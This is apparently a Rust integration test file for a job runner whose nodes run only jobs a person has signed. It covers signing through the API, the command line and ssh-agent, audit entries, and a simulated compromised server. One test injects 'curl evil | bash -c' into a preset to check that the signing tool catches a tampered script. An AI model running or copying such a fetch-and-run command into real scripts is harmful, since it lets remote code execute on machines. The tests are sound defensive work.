//! Nodes whose jobs people sign: the hold, the signature through API and command line, and what the
//! node's agent makes of a server that signs alone.

use std::path::Path;
use std::process::{Command, Stdio};

use hyprbox_signing::{JOB_NAMESPACE, SignKey};
use serde_json::{Value, json};

use super::program::Cli;
use crate::harness::{Field, Person, RealAgent, Server, eventually};

pub(super) struct World {
    pub(super) server: Server,
    pub(super) admin: Person,
    agent: RealAgent,
    folder: tempfile::TempDir,
    pub(super) ada: SignKey,
}

/// A node that runs only what Ada has signed.
pub(super) fn world() -> World {
    let mut server = Server::start();
    let admin = server.admin();
    let node = admin.add_node("n1");
    let folder = tempfile::tempdir().expect("a folder");
    let ada = SignKey::generate("ada@example.org");
    let signers = folder.path().join("signers");
    let line = format!(
        "ada namespaces=\"{JOB_NAMESPACE}\" {}\n",
        ada.public().to_line()
    );
    std::fs::write(&signers, line).expect("writes");
    let key = folder.path().join("id_ed25519");
    write_private(&key, &ada.to_file());
    let signers = signers.display().to_string();
    let agent = RealAgent::with_variables(&server, &node, &[("HYPRBOX_SIGNERS", &signers)]);
    eventually("the node to require signatures", || {
        let node = admin.get("/api/nodes/n1").ok();
        (node["requiresSignatures"] == true).then_some(())
    });
    World {
        server,
        admin,
        agent,
        folder,
        ada,
    }
}

fn write_private(path: &Path, text: &str) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(path, text).expect("writes");
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o600)).expect("sets");
}

impl World {
    fn queue(&self) -> String {
        self.admin
            .queue_with("n1", "shell", json!({"code": "echo signed"}))
    }

    pub(super) fn key_file(&self) -> String {
        self.folder.path().join("id_ed25519").display().to_string()
    }

    pub(super) fn cli(&self) -> Cli {
        Cli::of(&self.server, &self.admin)
    }

    fn envelope(&self, id: &str) -> String {
        let call = self.admin.get(&format!("/api/jobs/{id}/envelope"));
        call.gives(200).text().to_owned()
    }

    pub(super) fn waits(&self, id: &str) -> bool {
        let job = self.admin.job(id);
        job["status"] == "QUEUED" && job["holds"][0]["kind"] == "signature"
    }

    pub(super) fn done(&self, id: &str) -> Value {
        eventually("the job's end", || {
            let job = self.admin.job(id);
            let status = job.field("status");
            (status != "QUEUED" && status != "RUNNING").then_some(job)
        })
    }

    #[track_caller]
    pub(super) fn ran(&self, id: &str) {
        let job = self.done(id);
        assert_eq!(job["status"], "SUCCEEDED", "{job}");
        let fingerprint = self.ada.public().fingerprint();
        let signed_by = json!({"fingerprint": fingerprint, "comment": "ada@example.org"});
        assert_eq!(job["signedBy"], signed_by);
    }
}

#[test]
fn a_job_waits_for_a_signature_and_runs_once_it_has_one() {
    let mut world = world();
    let id = world.queue();
    assert!(world.waits(&id));
    let path = format!("/api/jobs/{id}/signatures");
    let envelope = world.envelope(&id);
    let sign = |key: &SignKey, namespace: &str, message: &str| json!({"signature": key.sign(namespace, message.as_bytes()), "comment": key.comment()});
    for (wrong, words) in [
        (json!({"signature": "nonsense"}), "OpenSSH's format"),
        (sign(&world.ada, "file", &envelope), "another purpose"),
        (sign(&world.ada, JOB_NAMESPACE, "{}"), "does not verify"),
    ] {
        let refused = world
            .admin
            .post(&path, &wrong)
            .refused(400, "bad_input")
            .json();
        let why = refused["fields"].field("signature");
        assert!(why.contains(words), "{why}");
    }
    assert!(world.waits(&id));
    // A second person signs another one's job.
    let operator = world.server.person("op", "OPERATOR");
    let body = sign(&world.ada, JOB_NAMESPACE, &envelope);
    operator.post(&path, &body).gives(404);
    let signed = operator.post(&format!("{path}?scope=all"), &body).ok();
    assert_eq!(signed["holds"], json!([]));
    world.ran(&id);
    world.admin.post(&path, &body).refused(409, "wrong_state");
    let entries = world.admin.get("/api/audit?limit=50").ok().list("entries");
    let of_sign = entries.iter().find(|entry| entry["action"] == "job.sign");
    let entry = of_sign.expect("an entry");
    assert_eq!(entry["actor"], "op@example.org");
    assert!(
        entry
            .field("detail")
            .contains(&world.ada.public().fingerprint())
    );
    // Everything that the envelope and the signatures prove can be read.
    let stored = world.admin.get(&path).ok();
    assert_eq!(stored["envelope"], json!(envelope));
    assert_eq!(stored["personSignature"], body["signature"]);
}

/// The real server with its own key: it releases the job by itself.
#[test]
fn a_compromised_server_gets_nothing_to_run() {
    let world = world();
    let id = world.queue();
    assert!(world.waits(&id));
    let release = |id: &str, more: &str| {
        let sql = format!("UPDATE jobs SET held = 0, holds = 0{more} WHERE id = '{id}'");
        assert_eq!(world.server.database().execute(&sql), 1);
    };
    release(&id, "");
    let job = world.done(&id);
    let message = job.field("errorMsg");
    assert!(
        message.starts_with("refused: ") && message.contains("nobody has signed"),
        "{job}"
    );
    // Its own signature in the place of a person's.
    let id = world.queue();
    release(&id, ", person_signature = signature");
    let message = world.done(&id).field("errorMsg");
    assert!(
        message.contains("is not one of this node's signers"),
        "{message}"
    );
    assert_eq!(world.admin.get("/api/nodes/n1").ok()["refused"]["count"], 2);
}

#[test]
fn the_command_line_shows_a_script_and_signs_it_with_a_key_file() {
    let world = world();
    let (cli, key) = (world.cli(), world.key_file());
    let id = world.queue();
    // Nobody is there to read it.
    cli.run(&["jobs", "sign", &id, "--key", &key])
        .ends(125)
        .says("--yes");
    assert!(world.waits(&id));
    cli.run(&["jobs", "sign", &id, "--key", &key, "--yes"])
        .ends(0)
        .says("echo signed")
        .says("has not succeeded on n1 yet")
        .says("shown, not compared")
        .says(&world.ada.public().fingerprint());
    world.ran(&id);
    // A run: its ids and nothing else on standard output.
    let words = [
        "run",
        "shell",
        "-n",
        "n1",
        "-p",
        "code=echo more",
        "--sign",
        "--key",
        &key,
        "--yes",
    ];
    let ran = cli.run(&words).ends(0).says("+");
    let id = ran.text().trim().to_owned();
    world.ran(&id);
    let words = [
        "run",
        "shell",
        "--on",
        "node=n1",
        "-p",
        "code=echo all",
        "--sign",
        "--key",
        &key,
        "--yes",
    ];
    let ran = cli.run(&words).ends(0);
    let run = world
        .admin
        .get(&format!("/api/runs/{}", ran.text().trim()))
        .ok();
    world.ran(&run["jobs"][0].field("id"));
    // A node that requires no signatures.
    world.admin.add_node("n2");
    let words = [
        "run",
        "shell",
        "-n",
        "n2",
        "-p",
        "code=echo free",
        "--sign",
        "--key",
        &key,
        "--yes",
    ];
    let ran = cli.run(&words).ends(0).says("n2 requires no signatures");
    let job = world.admin.job(ran.text().trim());
    assert_eq!(
        (&job["status"], &job["signedBy"]),
        (&json!("QUEUED"), &Value::Null)
    );
    // A key that is not there, or of another kind.
    let id = world.queue();
    cli.run(&["jobs", "sign", &id, "--yes"])
        .ends(125)
        .says("no key to sign with");
    cli.run(&["jobs", "sign", &id, "--key", "/nonexistent", "--yes"])
        .ends(125)
        .says("/nonexistent");
}

#[test]
fn the_command_line_signs_through_ssh_agent() {
    let world = world();
    let socket = world.folder.path().join("socket");
    let mut agent = Command::new("ssh-agent")
        .arg("-D")
        .arg("-a")
        .arg(&socket)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("OpenSSH is installed");
    eventually("ssh-agent", || socket.exists().then_some(()));
    let added = Command::new("ssh-add")
        .arg(world.key_file())
        .env("SSH_AUTH_SOCK", &socket)
        .stderr(Stdio::null())
        .status()
        .expect("ssh-add");
    assert!(added.success());
    let cli = world
        .cli()
        .with("SSH_AUTH_SOCK", socket.to_str().expect("UTF-8"));
    let id = world.queue();
    cli.run(&["jobs", "sign", &id, "--yes"]).ends(0);
    world.ran(&id);
    agent.kill().expect("ends");
    agent.wait().expect("ends");
}

#[test]
fn a_folder_of_presets_shows_a_script_that_is_not_its_own() {
    let world = world();
    let (cli, key) = (world.cli(), world.key_file());
    let own = world.folder.path().join("presets");
    std::fs::create_dir(&own).expect("creates");
    let theirs = world.server.presets_dir().join("shell.yaml");
    std::fs::copy(&theirs, own.join("shell.yaml")).expect("copies");
    let id = world.queue();
    let own = own.display().to_string();
    let words = [
        "jobs",
        "sign",
        &id,
        "--key",
        &key,
        "--presets",
        &own,
        "--yes",
    ];
    cli.run(&words).ends(0).says("renders to the same bytes");
    world.ran(&id);
    let text = std::fs::read_to_string(&theirs).expect("reads");
    std::fs::write(&theirs, text.replace("bash -c", "curl evil | bash -c")).expect("writes");
    let id = eventually("the changed preset", || {
        let id = world.queue();
        let script = world.admin.job(&id).field("script");
        script.contains("curl evil").then_some(id)
    });
    let words = [
        "jobs",
        "sign",
        &id,
        "--key",
        &key,
        "--presets",
        &own,
        "--yes",
    ];
    cli.run(&words)
        .ends(125)
        .says("renders to another script")
        .says("curl evil");
    assert!(world.waits(&id));
}

#[test]
fn a_node_that_stops_to_require_signatures_releases_its_jobs() {
    let mut world = world();
    let id = world.queue();
    assert!(world.waits(&id));
    world.agent.terminate();
    let node = world.admin.agent_of("n1");
    let beat = json!({"instance": "two", "intervalSeconds": 30, "requiresSignatures": false});
    node.heartbeat(&beat).gives(200);
    assert_eq!(world.admin.job(&id)["holds"], json!([]));
    let beat = json!({"instance": "two", "intervalSeconds": 30, "requiresSignatures": true});
    node.heartbeat(&beat).gives(200);
    assert!(world.waits(&id));
}
